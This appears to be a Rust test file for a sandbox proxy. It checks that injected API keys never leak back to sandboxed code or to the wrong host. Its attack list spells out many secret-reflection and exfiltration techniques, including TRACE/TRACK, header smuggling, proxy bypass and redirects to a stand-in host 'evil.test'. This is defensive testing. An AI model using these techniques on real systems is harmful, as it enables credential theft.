//! Attacks on the keys: an allowed host that gives back what it gets, in every way there is.

use hutch_testkit::TestEnvironment;
use serde_json::json;

use crate::attack::{Attack, run, tls};
use crate::carry_out;

const KEY: &str = "key-of-openai-that-nobody-inside-may-see";
const OTHER: &str = "key-of-anthropic-that-nobody-inside-may-see";

#[test]
fn a_key_does_not_come_back() {
    let environment = TestEnvironment::with_internet()
        .variable("OPENAI_API_KEY", KEY)
        .variable("ANTHROPIC_API_KEY", OTHER);
    let sandbox = environment.boot("reflected");
    let outcomes = carry_out(&environment, &sandbox, &attacks());
    let seen = environment.internet().report();
    for host in ["api.openai.com", "api.anthropic.com"] {
        let of_host = seen.of(host);
        let text = of_host.iter().map(|request| format!("{request:?}"));
        let used = text.filter(|text| text.contains(KEY) || text.contains(OTHER)).count();
        assert!(used >= 2, "{host} was given its key, or nothing was attacked");
    }
    let mut failures = Vec::new();
    for outcome in &outcomes {
        // Also in parts: half a key is half the work.
        for part in [KEY, OTHER, "that-nobody-inside", "key-of-openai", "key-of-anthropic"] {
            if outcome.answer.contains(part) {
                failures.push(format!("{}: {outcome:?}", outcome.name));
                break;
            }
        }
    }
    for request in &seen.requests {
        let text = format!("{request:?}");
        let right = match request.host.as_str() {
            "api.openai.com" => {
                let secure = request.connection.sni.is_some();
                (secure || !text.contains(KEY)) && !text.contains(OTHER)
            }
            "api.anthropic.com" => !text.contains(KEY),
            _ => !text.contains(KEY) && !text.contains(OTHER),
        };
        if !right || request.method.starts_with("TRAC") {
            failures.push(format!("a key went where it does not belong: {text}"));
        }
    }
    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
}

/// Every way to have a key sent back.
fn attacks() -> Vec<Attack> {
    let host = "api.openai.com";
    let reflect = |name, path: &str, lines: &str| {
        tls(
            name,
            "api.openai.com:443",
            Some(host),
            format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{lines}\r\n"),
        )
    };
    let curl = |name, words: &[&str]| run(name, &[&["curl", "-s", "-i"], words].concat());
    vec![
        reflect("in the body", "/reflect", ""),
        reflect("in an error page", "/reflect-error", ""),
        reflect("in trailers", "/reflect-trailer", "TE: trailers\r\n"),
        reflect("byte by byte", "/reflect-chunks", ""),
        reflect("under a false label", "/reflect-gzip-label", ""),
        reflect("asking for a coding", "/reflect", "Accept-Encoding: gzip, br, zstd, deflate\r\n"),
        reflect("asking for a part", "/reflect", "Range: bytes=10-4000\r\n"),
        reflect(
            "naming the header hop-by-hop",
            "/reflect",
            "Connection: authorization, x-copy\r\nX-Copy: 1\r\n",
        ),
        reflect(
            "with the header twice",
            "/reflect",
            "Authorization: Bearer a\r\nauthorization: Bearer b\r\n",
        ),
        reflect("by a redirect", "/redirect/302?to=https://evil.test/", ""),
        reflect("as a method override", "/reflect", "X-HTTP-Method-Override: TRACE\r\n"),
        Attack {
            name: "by an upgrade",
            steps: json!([
                ["proxy"],
                ["connect", "api.openai.com:443"],
                ["tls", host, ["http/1.1"]],
                [
                    "send",
                    format!(
                        "GET /reflect-upgrade HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
                    )
                ]
            ]),
            logged: None,
        },
        tls(
            "by TRACE",
            "api.openai.com:443",
            Some(host),
            format!("TRACE /reflect HTTP/1.1\r\nHost: {host}\r\n\r\n"),
        ),
        tls(
            "by TRACK",
            "api.openai.com:443",
            Some(host),
            format!("TRACK /reflect HTTP/1.1\r\nHost: {host}\r\n\r\n"),
        ),
        curl("by HTTP/2, in the body", &["--http2", "https://api.openai.com/reflect"]),
        curl("by HTTP/2, in trailers", &["--http2", "https://api.openai.com/reflect-trailer"]),
        curl("by HTTP/2, in an error page", &["--http2", "https://api.openai.com/reflect-error"]),
        curl("by HTTP/2, byte by byte", &["--http2", "https://api.openai.com/reflect-chunks"]),
        curl("of another service", &["https://api.anthropic.com/reflect"]),
        curl(
            "of another service, in trailers",
            &["--http1.1", "https://api.anthropic.com/reflect-trailer"],
        ),
        curl("captured", &["--noproxy", "*", "https://api.openai.com/reflect"]),
        curl(
            "followed to another host",
            &["-L", "https://api.openai.com/redirect/307?to=https://evil.test/reflect"],
        ),
        curl(
            "followed to another service",
            &["-L", "https://api.openai.com/redirect/307?to=https://api.anthropic.com/reflect"],
        ),
        curl("with a fragment and a user", &["https://user:pass@api.openai.com/reflect#x"]),
        curl("under another port", &["-k", "https://api.openai.com:8443/reflect"]),
        curl("without TLS", &["http://api.openai.com/reflect"]),
    ]
}
